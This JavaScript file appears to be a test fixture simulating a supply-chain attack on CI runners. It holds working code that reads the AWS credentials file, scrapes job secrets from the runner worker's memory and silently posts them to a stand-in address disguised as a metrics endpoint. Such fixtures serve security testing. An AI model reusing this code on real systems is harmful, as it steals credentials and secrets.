/*
 * A simulated supply-chain attack, of the kind seen in 2025 and 2026: an install script reads a credential file, takes the
 * job's secrets out of the runner's memory, and posts both. The credentials are decoys made for this run, the memory is that
 * of the fixture's own worker, and the address is a documentation address inside the scenario's network namespace.
 */
import { closeSync, openSync, readFileSync, readSync } from 'node:fs'
import { request } from 'node:http'
import { homedir } from 'node:os'
import { join } from 'node:path'

const CHUNK = 1 << 20
const OVERLAP = 4096
const MARK = '"isSecret":true'
const SECRET = /"([^"\\]{1,200})":\{"value":"([^"\\]{1,2000})","isSecret":true\}/g

function credentials() {
  try {
    return readFileSync(join(homedir(), '.aws', 'credentials'), 'utf8')
  } catch {
    return ''
  }
}

/**
 * Real malware searches every process by name. This one only walks up its own ancestors, so that it can never reach into
 * the memory of a job that somebody else is running on the same machine.
 */
function findWorker() {
  for (let pid = process.ppid; pid > 1;) {
    const [program = '', verb] = readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0')
    if (program.endsWith('/Runner.Worker') && verb === 'spawnclient') return pid
    const stat = readFileSync(`/proc/${pid}/stat`, 'latin1')
    pid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1])
  }
  return 0
}

function secretsInMemory(pid) {
  const found = {}
  const memory = openSync(`/proc/${pid}/mem`, 'r')
  const buffer = Buffer.alloc(CHUNK + OVERLAP)
  for (const line of readFileSync(`/proc/${pid}/maps`, 'latin1').split('\n')) {
    const range = /^([0-9a-f]+)-([0-9a-f]+) rw/.exec(line)
    if (!range) continue
    const end = Number.parseInt(range[2], 16)
    for (let at = Number.parseInt(range[1], 16); at < end; at += CHUNK) {
      try {
        const size = readSync(memory, buffer, 0, Math.min(buffer.length, end - at), at)
        if (buffer.subarray(0, size).indexOf(MARK) < 0) continue
        for (const match of buffer.toString('latin1', 0, size).matchAll(SECRET)) found[match[1]] = match[2]
      } catch {
        break // not readable; on to the next mapping
      }
    }
  }
  closeSync(memory)
  return found
}

function send(loot) {
  const body = JSON.stringify(loot)
  const post = request({ host: '203.0.113.9', port: 8000, method: 'POST', path: '/v1/metrics', timeout: 3000 })
  post.on('error', () => {})
  post.end(body)
}

try {
  const worker = findWorker()
  send({ credentials: credentials(), secrets: worker ? secretsInMemory(worker) : {} })
} catch {
  // An install that fails would be noticed.
}
